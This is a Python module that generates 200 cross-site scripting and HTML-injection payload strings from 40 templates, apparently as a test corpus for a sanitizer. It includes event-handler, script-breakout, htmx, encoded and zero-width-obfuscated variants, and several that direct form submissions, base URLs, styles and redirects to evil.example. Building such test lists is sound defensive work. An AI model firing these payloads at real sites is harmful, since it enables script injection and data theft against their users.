"""Two hundred texts that want to be code: forty shapes, each with five things to run."""

from __future__ import annotations

ACTS = ("alert", "top.hit=eval", "parent.postMessage", "fetch", "document.title=String")
SCRIPT = "<script>{}</script>"
EVIL = "//evil.example/{}"
SHAPES = (
    SCRIPT,
    "<img src=x onerror={}>",
    "<svg onload={}>",
    f"<svg>{SCRIPT}</svg>",
    f'">{SCRIPT}',
    "'><img src=x onerror={}>",
    f"</textarea>{SCRIPT}",
    f"</title>{SCRIPT}",
    f"</script>{SCRIPT}",
    '<a href="javascript:{}">x</a>',
    f"<iframe srcdoc='{SCRIPT}'></iframe>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    f"<style>@import '{EVIL}'</style>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<img src={EVIL}.png>",
    f"<form action={EVIL}><button>",
    f"<base href={EVIL}>",
    "<input autofocus onfocus={}>",
    "<audio src=x onerror={}></audio>",
    "{{{{ 7*7 }}}}{{% {} %}}",
    '" onmouseover="{}" x="',
    f"' style='background:url({EVIL})",
    f"<!-->{SCRIPT}-->",
    f"<![CDATA[{SCRIPT}]]>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "&lt;script&gt;{}&lt;/script&gt;",
    f"<template>{SCRIPT}</template>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<xss hx-get='/logout' hx-trigger=load hx-on:load={}>",
    f"<div hx-post='{EVIL}' hx-trigger=load>",
    f"<hx-partial hx-target=body>{SCRIPT}</hx-partial>",
    f"<p hx-swap-oob=true id=goal>{SCRIPT}",
    "%3Cscript%3E{}%3C/script%3E",
    f"\u202e{SCRIPT}",
    "<scr\u200bipt>{}</script>",
    f"<a href='data:text/html,{SCRIPT}'>x</a>",
)
HOSTILE = [
    shape.format(f"{act}({number})")
    for number, (shape, act) in enumerate((shape, act) for act in ACTS for shape in SHAPES)
]
